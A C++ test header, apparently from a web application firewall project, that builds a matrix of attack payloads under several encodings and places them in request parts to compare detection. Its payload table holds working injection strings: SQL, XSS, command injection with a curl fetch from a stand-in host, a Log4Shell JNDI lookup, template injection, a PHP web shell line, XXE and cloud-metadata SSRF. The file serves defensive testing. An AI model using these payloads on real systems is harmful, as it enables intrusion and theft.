#pragma once

#include "tests/detection/corpus.h"

#include <array>

/// One payload in every disguise and at every place of a request where somebody may put it: what firewalls are compared by.
namespace sallyport::test::matrix {

namespace detection = sallyport::protection::detection;

struct Payload {
    std::string_view attackClass;
    std::string_view text;
};

inline constexpr auto payloads = std::to_array<Payload>({
    {"sql", "7 or 42=42 -- "},
    {"sql", "kiwi' union select login, secret from members -- "},
    {"sql", "3; drop table parcels --"},
    {"sql", "plum' and sle"
            "ep(9) and 'q'='q"},
    {"sql", "1 and extractvalue(1,concat(0x5c,(select user())))"},
    {"nosql", "pear' || this.secret.match(/.*/) || 'z'=='y"},
    {"nosql", "{\"$where\": \"sle"
              "ep(2500)\"}"},
    {"script", "<script>alert('fig')</script>"},
    {"script", "<img src=z onerror=confirm(7)>"},
    {"script", "\"><svg/onload=prompt(3)>"},
    {"script", "javascript:alert(document.cookie)"},
    {"traversal", "../../../../../etc/passwd"},
    {"traversal", "..\\..\\..\\windows\\win.ini"},
    {"traversal", "php://filter/convert.base64-encode/resource=index.php"},
    {"commands", "lime;cat /etc/passwd"},
    {"commands", "| whoami"},
    {"commands", "$(curl http://198.51.100.7/z)"},
    {"commands", "`id`; uname -a"},
    {"commands", "x & ping -n 9 198.51.100.7"},
    {"templates", "{{13*17}}"},
    {"templates", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
    {"templates", "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
    {"templates", "<%= system('id') %>"},
    {"code", "<?php system($_GET['z']); ?>"},
    {"code", "require('child_process').exec('id')"},
    {"code", "__import__('os').popen('id').read()"},
    {"xml", "<!DOCTYPE z [<!ENTITY y SYSTEM \"file:///etc/hostname\">]><z>&y;</z>"},
    {"ldap", "*)(uid=*))(|(uid=*"},
    {"ldap", "' or count(/*)=1 or 'z'='y"},
    {"ssrf", "http://169.254.169.254/latest/meta-data/"},
    {"ssrf", "gopher://127.0.0.1:6379/_INFO"},
    {"splitting", "plum\r\nSet-Cookie: z=1"},
    {"splitting", "plum@example.org\r\nBcc: fig@example.net"},
    {"log4shell", "${${lower:j}ndi:ldap://198.51.100.7/z}"},
    {"shellshock", "() { :;}; /bin/id"},
    {"ssi", "<!--#exec cmd=\"id\" -->"},
});

/// What stands between the sender and the detector.
enum class Encoder : std::uint8_t { Plain, Url, UrlTwice, Base64, Base64Flat, JsUnicode, XmlEntity, Count_ };

inline constexpr std::array<std::string_view, static_cast<std::size_t>(Encoder::Count_)> encoderWords{
    "plain", "url", "url-twice", "base64", "base64-flat", "js-unicode", "xml-entity"};

enum class Place : std::uint8_t {
    Parameter,
    Path,
    Header,
    UserAgent,
    Cookie,
    Form,
    Multipart,
    Member,
    Name,
    Xml,
    Soap,
    Attribute,
    GraphQl,
    Count_
};

inline constexpr std::array<std::string_view, static_cast<std::size_t>(Place::Count_)> placeWords{
    "parameter", "path", "header", "user-agent", "cookie",    "form",   "multipart",
    "member",    "name", "xml",    "soap",       "attribute", "graphql"};

inline std::string base64(std::string_view text, bool padded)
{
    constexpr std::string_view digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    for (std::size_t i = 0; i < text.size(); i += 3) {
        std::uint32_t bits = 0;
        for (std::size_t k = 0; k < 3; ++k)
            bits = bits << 8U | (i + k < text.size() ? static_cast<unsigned char>(text[i + k]) : 0U);
        for (std::size_t k = 0; k < 4; ++k) {
            if (i + k <= text.size() && k <= text.size() - i)
                out.push_back(digits[bits >> (18U - 6U * k) & 63U]);
            else if (padded)
                out.push_back('=');
        }
    }
    return out;
}

/// Each byte as two hexadecimal digits, with that before and behind them.
inline std::string everyByte(std::string_view text, std::string_view before, std::string_view behind)
{
    constexpr std::string_view digits = "0123456789abcdef";
    std::string out;
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        out.append(before) += digits[byte >> 4U];
        out += digits[byte & 15U];
        out += behind;
    }
    return out;
}

inline std::string encoded(std::string_view text, Encoder encoder)
{
    switch (encoder) {
    case Encoder::Url: return everyByte(text, "%", "");
    case Encoder::UrlTwice: return everyByte(text, "%25", "");
    case Encoder::Base64: return base64(text, true);
    case Encoder::Base64Flat: return base64(text, false);
    case Encoder::JsUnicode: return everyByte(text, "\\u00", "");
    case Encoder::XmlEntity: return everyByte(text, "&#x", ";");
    default: return std::string(text);
    }
}

inline std::string escaped(std::string_view text)
{
    std::string out;
    for (const char c : text) {
        if (c == '<')
            out += "&lt;";
        else if (c == '&')
            out += "&amp;";
        else if (c == '"')
            out += "&quot;";
        else
            out += c;
    }
    return out;
}

/// Whether a place can carry what an encoder makes, and a client would send it so.
inline bool carries(Place place, Encoder encoder, std::string_view text)
{
    const bool lines = text.find('\r') != std::string_view::npos;
    if (place == Place::Header || place == Place::UserAgent)
        return !(lines && encoder == Encoder::Plain); // no header has an end of line
    return true;
}

/// The parts of a request that has `text` at `place`, for as long as `store` lives.
inline std::vector<detection::Part> partsOf(Place place, const std::string& text, std::vector<std::string>& store)
{
    using detection::PartKind;
    store.clear();
    store.reserve(2);
    const auto keep = [&](std::string bytes) { return std::string_view(store.emplace_back(std::move(bytes))); };
    const auto quoted = [&] { return boost::json::serialize(boost::json::string(text)); };
    switch (place) {
    case Place::Parameter: return {{PartKind::Query, {}, keep("page=2&q=" + corpus::allQuoted(text))}};
    case Place::Path: return {{PartKind::Path, {}, keep("/api/data/" + corpus::allQuoted(text))}};
    case Place::Header: return {{PartKind::Header, "X-Note", keep(text)}};
    case Place::UserAgent: return {{PartKind::Header, "User-Agent", keep(text)}};
    case Place::Cookie: return {{PartKind::Cookie, {}, keep("theme=dark; note=" + corpus::allQuoted(text))}};
    case Place::Form: return {{PartKind::Form, {}, keep("name=plum&note=" + corpus::allQuoted(text))}};
    case Place::Multipart: return {{PartKind::Multipart, "note", keep(text)}};
    case Place::Member: return {{PartKind::Json, {}, keep("{\"name\":\"plum\",\"note\":" + quoted() + "}")}};
    case Place::Name: return {{PartKind::Json, {}, keep("{\"name\":\"plum\"," + quoted() + ":1}")}};
    case Place::Xml:
        return {
            {PartKind::Xml, {}, keep("<?xml version=\"1.0\"?>\n<note><to>plum</to><text>" + escaped(text) + "</text></note>")}};
    case Place::Soap:
        return {{PartKind::Xml,
                 {},
                 keep("<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><find><text>" +
                      escaped(text) + "</text></find></soap:Body></soap:Envelope>")}};
    case Place::Attribute: return {{PartKind::Xml, {}, keep("<note text=\"" + escaped(text) + "\"/>")}};
    case Place::GraphQl:
        return {{PartKind::Json,
                 {},
                 keep("{\"query\":" +
                      boost::json::serialize(boost::json::string("query { find(text: " + quoted() + ") { id } }")) + "}")}};
    default: return {};
    }
}

} // namespace sallyport::test::matrix
